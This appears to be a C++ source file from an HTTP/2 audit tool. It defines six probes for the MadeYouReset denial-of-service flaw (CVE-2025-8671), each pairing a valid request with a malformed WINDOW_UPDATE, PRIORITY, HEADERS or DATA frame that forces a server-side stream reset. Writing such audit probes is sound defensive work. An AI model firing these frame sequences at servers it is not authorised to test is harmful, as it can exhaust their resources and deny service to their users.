// MadeYouReset (CVE-2025-8671): a request that is right, then a frame that makes the server reset it while its handler works on.
// The window of each stream is 0, so that no response can end it before.

#include <array>

#include "http2/audit/probe.hpp"
#include "http2/audit/writing.hpp"

namespace uncork::http2::audit {
namespace {

void no_increment(const Subject& subject, std::uint32_t i, byte_vector& into) {
  put_request(subject, Method::get, stream_of(i), into);
  put_window_update(stream_of(i), 0, into);
}

/// Twice, since the first one is right where the window is 0.
void too_large_window(const Subject& subject, std::uint32_t i, byte_vector& into) {
  put_request(subject, Method::get, stream_of(i), into);
  put_window_update(stream_of(i), kMostWindow, into);
  put_window_update(stream_of(i), kMostWindow, into);
}

void short_priority(const Subject& subject, std::uint32_t i, byte_vector& into) {
  put_request(subject, Method::get, stream_of(i), into);
  put_priority(stream_of(i), 0, 4, into);
}

void priority_on_itself(const Subject& subject, std::uint32_t i, byte_vector& into) {
  put_request(subject, Method::get, stream_of(i), into);
  put_priority(stream_of(i), stream_of(i), 5, into);
}

/// The second HEADERS end the stream as trailers would, so that nothing but their place is wrong.
void headers_after_end(const Subject& subject, std::uint32_t i, byte_vector& into) {
  put_request(subject, Method::get, stream_of(i), into);
  byte_vector trailers;
  put_literal("x", "y", trailers);
  put_frame(FrameType::headers, frame_flag::kEndStream | frame_flag::kEndHeaders, stream_of(i), trailers, into);
}

void data_after_end(const Subject& subject, std::uint32_t i, byte_vector& into) {
  constexpr std::array<std::byte, 1> kByte{};
  put_request(subject, Method::get, stream_of(i), into);
  put_data(stream_of(i), kByte, true, into);
}

constexpr std::array kProbes = {
    Probe{.name = "made-reset-increment", .what = "request, WINDOW_UPDATE of 0", .unit = no_increment, .initial_window = 0},
    Probe{.name = "made-reset-window",
          .what = "request, WINDOW_UPDATE beyond 2^31-1",
          .unit = too_large_window,
          .initial_window = 0},
    Probe{.name = "made-reset-priority", .what = "request, PRIORITY of 4 bytes", .unit = short_priority, .initial_window = 0},
    Probe{.name = "made-reset-itself", .what = "request, PRIORITY on itself", .unit = priority_on_itself, .initial_window = 0},
    Probe{.name = "made-reset-headers", .what = "request, HEADERS after its end", .unit = headers_after_end, .initial_window = 0},
    Probe{.name = "made-reset-data", .what = "request, DATA after its end", .unit = data_after_end, .initial_window = 0}};

}  // namespace

std::span<const Probe> reset_probes() noexcept { return kProbes; }

}  // namespace uncork::http2::audit
